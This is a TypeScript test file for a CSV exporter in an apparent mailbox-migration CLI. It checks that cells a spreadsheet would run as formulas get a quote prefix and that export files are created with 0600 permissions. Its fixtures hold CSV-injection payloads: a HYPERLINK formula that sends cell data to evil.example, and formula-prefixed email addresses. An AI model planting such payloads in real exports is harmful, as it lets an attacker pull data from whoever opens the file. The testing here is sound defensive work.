import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { EXIT } from '../cli/exit-codes.js';
import { runCli } from '../testing/sync-fixture.js';
import { CsvFile } from './csv-file.js';
import { csvLine } from './csv-line.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  '+1+2',
  '-3+4',
  '@SUM(A1)',
  '\tx',
  '\rx',
];

test('csvLine: every cell a spreadsheet would run as a formula is prefixed with a quote, then quoted as RFC 4180 wants', () => {
  assert.equal(
    csvLine(FORMULAS),
    `"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",'+1+2,'-3+4,'@SUM(A1),'\tx,"'\rx"\r\n`,
  );
  assert.equal(csvLine(['plain', 12, null, 'a,b']), 'plain,12,,"a,b"\r\n');
});

test('CsvFile (the rejects file, plan and calendar exports): formulas neutralised, created 0600 whatever the umask', () => {
  const dir = mkdtempSync(join(tmpdir(), 'tranche-csv-'));
  const file = join(dir, 'out.csv');
  const umask = process.umask(0);
  try {
    const csv = new CsvFile(file);
    csv.row(['a']);
    csv.row(FORMULAS);
    csv.close();
  } finally {
    process.umask(umask);
  }
  assert.equal(readFileSync(file, 'utf8'), `a\r\n${csvLine(FORMULAS)}`);
  assert.equal(statSync(file).mode & 0o777, 0o600);
});

test('tranche plan --export: an imported address that is a formula is written as words', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'tranche-csv-'));
  const programme = join(dir, 'p');
  const run = (args: string[]) => runCli([...args, '--programme', programme]);
  assert.equal((await runCli(['init', programme])).status, EXIT.ok);
  assert.equal((await run(['endpoint', 'add', 'src', '--url', 'imaps://127.0.0.1'])).status, EXIT.ok);
  assert.equal((await run(['endpoint', 'add', 'tgt', '--url', 'imaps://localhost'])).status, EXIT.ok);
  const list = join(dir, 'm.csv');
  // Valid addresses (= + - are letters of an address's local part) that a spreadsheet would run.
  writeFileSync(
    list,
    'address,source_endpoint,source_user,target_endpoint,target_user\n=1+2@evil.example.org,src,a,tgt,a\n+cmd@evil.example.org,src,b,tgt,b\n-2+3@evil.example.org,src,c,tgt,c\n',
  );
  const imported = await run(['import', 'mailboxes', list]);
  assert.equal(imported.status, EXIT.ok, imported.stderr);
  const exported = join(dir, 'plan.csv');
  await run(['plan', '--export', exported]);
  const lines = readFileSync(exported, 'utf8').trimEnd().split('\r\n').slice(1);
  assert.deepEqual(lines.map((l) => l.split(',')[0]).sort(), [
    "'+cmd@evil.example.org",
    "'-2+3@evil.example.org",
    "'=1+2@evil.example.org",
  ]);
});
